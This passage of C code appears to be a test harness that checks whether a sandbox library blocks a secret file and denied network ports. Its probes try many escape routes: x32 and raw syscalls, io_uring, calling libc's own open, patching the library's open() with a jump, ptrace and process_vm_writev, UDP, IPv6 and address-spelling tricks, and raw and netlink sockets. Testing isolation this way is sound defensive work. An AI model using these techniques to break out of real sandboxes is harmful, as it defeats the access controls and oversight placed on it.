    if (IS("x32-open")) {
        fd = (int)rawsys(0x40000000L | 257, AT_FDCWD, (long)env("EV_SECRET"), O_RDONLY, 0, 0, 0);
        return judge_fd(fd, -fd, "x32 openat");
    }
    if (IS("uring-open") || IS("uring-connect")) {
        struct ring r;
        int e = ring_setup(&r);
        if (e < 0) return denied(-e);
        if (IS("uring-open")) {
            fd = uring_open(&r, env("EV_OK"));
            control(fd >= 0, -fd, "io_uring open of EV_OK");
            close(fd);
            fd = uring_open(&r, env("EV_SECRET"));
            return judge_fd(fd, -fd, "io_uring openat");
        }
        struct sockaddr_in ok = in4("127.0.0.2", env("EV_PORT_OK")), no = in4("127.0.0.1", env("EV_PORT_NO"));
        int c = uring_connect(&r, &ok);
        control(c == 0, -c, "io_uring connect to the allowed listener");
        c = uring_connect(&r, &no);
        return c == 0 ? breach("io_uring connect") : denied(-c);
    }
    if (IS("dlopen-libc") || IS("dlmopen-libc")) {
        void *h = IS("dlopen-libc") ? dlopen("libc.so.6", RTLD_NOW) : dlmopen(LM_ID_NEWLM, "libc.so.6", RTLD_NOW);
        open_fn o = h ? (open_fn)dlsym(h, "open") : NULL;
        if (!o) {
            printf("control failed: %s\n", dlerror());
            return 4;
        }
        fd = o(env("EV_OK"), O_RDONLY);
        control(fd >= 0, errno, "libc's own open on EV_OK");
        close(fd);
        fd = o(env("EV_SECRET"), O_RDONLY);
        return judge_fd(fd, errno, "libc's own open");
    }
    if (IS("patch-shim")) { /* overwrite the library's exported open() with a jump to libc's */
        fd = open(env("EV_SECRET"), O_RDONLY);
        control(fd < 0, 0, "the library denies before the patch");
        void *shim = dlsym(RTLD_DEFAULT, "open");
        void *real = dlsym(dlopen("libc.so.6", RTLD_NOW), "open");
        Dl_info di;
        if (!shim || !real || !dladdr(shim, &di) || !strstr(di.dli_fname, "trajeckt")) {
            printf("control failed: open is not the library's\n");
            return 4;
        }
        uintptr_t pg = (uintptr_t)shim & ~(uintptr_t)4095;
        if (mprotect((void *)pg, 8192, PROT_READ | PROT_WRITE | PROT_EXEC) < 0) return denied(errno);
        unsigned char jmp[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0};
        memcpy(jmp + 2, &real, 8);
        memcpy(shim, jmp, sizeof jmp);
        __builtin___clear_cache((char *)shim, (char *)shim + sizeof jmp);
        fd = ((open_fn)shim)(env("EV_OK"), O_RDONLY);
        control(fd >= 0, errno, "patched open of EV_OK");
        close(fd);
        fd = ((open_fn)shim)(env("EV_SECRET"), O_RDONLY);
        return judge_fd(fd, errno, "open through the patched library");
    }
    if (IS("ptrace") || IS("vm-write")) {
        static volatile long target = 1;
        pid_t pid = fork();
        if (pid == 0) {
            for (int i = 0; i < 200 && target == 1; i++) usleep(10000);
            _exit(target == 1 ? 0 : 9);
        }
        int ok;
        if (IS("ptrace")) {
            ok = ptrace(PTRACE_ATTACH, pid, 0, 0) == 0;
        } else {
            long v = 2;
            struct iovec l = {&v, sizeof v}, r = {(void *)&target, sizeof target};
            ok = process_vm_writev(pid, &l, 1, &r, 1, 0) == (ssize_t)sizeof v;
        }
        int e = errno;
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
        return ok ? breach("reached into a sibling process") : denied(e);
    }

    /* -------- network -------- */
    if (IS("connect-okport")) { /* connect-okport [raw|thread]: the allowed port at a denied address */
        if (argc > 2 && strcmp(argv[2], "thread") == 0) { /* both connects from a second thread */
            pthread_t t;
            void *ret;
            if (pthread_create(&t, NULL, okport_thread, NULL) != 0 || pthread_join(t, &ret) != 0) return 5;
            return (int)(intptr_t)ret;
        }
        return okport(argc > 2 && strcmp(argv[2], "raw") == 0);
    }
    if (IS("connect")) return net_both(0, 0);
    if (IS("raw-connect")) return net_both(0, 1);
    if (IS("mptcp")) return net_both(IPPROTO_MPTCP, 0);
    if (IS("raw-mptcp")) return net_both(IPPROTO_MPTCP, 1);
    if (IS("connect6")) { /* connect6 ADDR: an IPv6 spelling of a denied address */
        struct sockaddr_in6 a = in6(argv[2], env("EV_PORT_NO"));
        int r = tcp_connect((struct sockaddr *)&a, sizeof a, 0, 0);
        return r == 0 ? breach(argv[2]) : denied(-r);
    }
    if (IS("connect-name")) { /* connect-name SPELLING: getaddrinfo of an inet_aton spelling */
        struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *res;
        int e = getaddrinfo(argv[2], env("EV_PORT_NO"), &hints, &res);
        if (e) return denied(EACCES);
        int r = tcp_connect(res->ai_addr, res->ai_addrlen, 0, 0);
        return r == 0 ? breach(argv[2]) : denied(-r);
    }
    if (IS("connect4")) { /* connect4 ADDR (0.0.0.0) */
        struct sockaddr_in a = in4(argv[2], env("EV_PORT_NO"));
        int r = tcp_connect((struct sockaddr *)&a, sizeof a, 0, 0);
        return r == 0 ? breach(argv[2]) : denied(-r);
    }
    if (IS("udp") ) { /* udp sendto|sendmsg|sendmmsg|connected|raw */
        struct sockaddr_in ok = in4("127.0.0.2", env("EV_PORT_OK")), no = in4("127.0.0.1", env("EV_PORT_NO"));
        const char *how = argv[2];
        if (strcmp(how, "sendmmsg") == 0) {
            int s = socket(AF_INET, SOCK_DGRAM, 0);
            struct mmsghdr m[8];
            struct iovec v = {.iov_base = "udp-probe", .iov_len = 9};
            memset(m, 0, sizeof m);
            for (int i = 0; i < 8; i++) {
                m[i].msg_hdr.msg_name = i == 6 ? &no : &ok;
                m[i].msg_hdr.msg_namelen = sizeof ok;
                m[i].msg_hdr.msg_iov = &v;
                m[i].msg_hdr.msg_iovlen = 1;
            }
            int r = sendmmsg(s, m, 8, 0);
            printf("sendmmsg returned %d\n", r);
            return r >= 7 ? breach("sendmmsg reached message 7") : denied(r < 0 ? errno : EACCES);
        }
        if (strcmp(how, "connected") == 0) {
            int s = socket(AF_INET, SOCK_DGRAM, 0);
            control(connect(s, (struct sockaddr *)&ok, sizeof ok) == 0, errno, "udp connect to the allowed port");
            return sendto(s, "udp-probe", 9, 0, (struct sockaddr *)&no, sizeof no) >= 0 ? breach("explicit sendto overrode the connect") : denied(errno);
        }
        if (strcmp(how, "raw") == 0) {
            int s = socket(AF_INET, SOCK_DGRAM, 0);
            long r = rawsys(SYS_sendto, s, (long)"udp-probe", 9, 0, (long)&no, sizeof no);
            return r >= 0 ? breach("raw sendto") : denied((int)-r);
        }
        if (strcmp(how, "raw-unspec") == 0) { /* udp reads an AF_UNSPEC destination as a sockaddr_in */
            int s = socket(AF_INET, SOCK_DGRAM, 0);
            struct sockaddr_in u = no;
            u.sin_family = AF_UNSPEC;
            long r = rawsys(SYS_sendto, s, (long)"udp-probe", 9, 0, (long)&u, sizeof u);
            return r >= 0 ? breach("raw sendto, AF_UNSPEC") : denied((int)-r);
        }
        if (strcmp(how, "raw-sendmmsg") == 0) {
            int s = socket(AF_INET, SOCK_DGRAM, 0);
            struct iovec v = {.iov_base = "udp-probe", .iov_len = 9};
            struct mmsghdr m[2];
            memset(m, 0, sizeof m);
            for (int i = 0; i < 2; i++) {
                m[i].msg_hdr.msg_name = i == 1 ? &no : &ok;
                m[i].msg_hdr.msg_namelen = sizeof ok;
                m[i].msg_hdr.msg_iov = &v;
                m[i].msg_hdr.msg_iovlen = 1;
            }
            long r = rawsys(SYS_sendmmsg, s, (long)m, 2, 0, 0, 0);
            return r >= 2 ? breach("raw sendmmsg reached message 2") : denied(r < 0 ? (int)-r : EACCES);
        }
        int w = strcmp(how, "sendmsg") == 0;
        int r = udp_send((struct sockaddr *)&ok, sizeof ok, w);
        control(r == 0, -r, "udp to the allowed port");
        r = udp_send((struct sockaddr *)&no, sizeof no, w);
        return r == 0 ? breach("udp datagram sent") : denied(-r);
    }
    if (IS("bind")) { /* bind tcp|udp|raw-tcp */
        int udp = strcmp(argv[2], "udp") == 0, raw = strcmp(argv[2], "raw-tcp") == 0;
        int s = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
        struct sockaddr_in a = in4("127.0.0.1", "0");
        long r = raw ? rawsys(SYS_bind, s, (long)&a, sizeof a, 0, 0, 0) : (bind(s, (struct sockaddr *)&a, sizeof a) < 0 ? -errno : 0);
        return r == 0 ? breach("bound a port") : denied((int)-r);
    }
    if (IS("unix")) { /* unix path|abstract */
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        socklen_t len;
        if (strcmp(argv[2], "path") == 0) {
            snprintf(a.sun_path, sizeof a.sun_path, "%s", env("EV_UNIX"));
            len = sizeof a;
        } else {
            const char *n = env("EV_ABSTRACT");
            memcpy(a.sun_path + 1, n, strlen(n));
            len = sizeof a; /* NUL-padded to the full sun_path, as Node binds an abstract name */
        }
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        int r = connect(s, (struct sockaddr *)&a, len);
        return r == 0 ? breach("connected to the unix listener") : denied(errno);
    }
    if (IS("socket")) { /* socket packet|raw|sctp|netlink */
        int s;
        if (strcmp(argv[2], "packet") == 0) s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(0x0003));
        else if (strcmp(argv[2], "raw") == 0) s = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK, IPPROTO_ICMP);
        else if (strcmp(argv[2], "sctp") == 0) s = socket(AF_INET, SOCK_STREAM, IPPROTO_SCTP);
        else s = socket(AF_NETLINK, SOCK_RAW, 12 /* NETLINK_NETFILTER: nf_tables, CVE-2024-1086 */);
        return s >= 0 ? breach("created the socket") : denied(errno);
    }
    printf("usage: unknown subcommand %s\n", cmd);
    return 5;
}
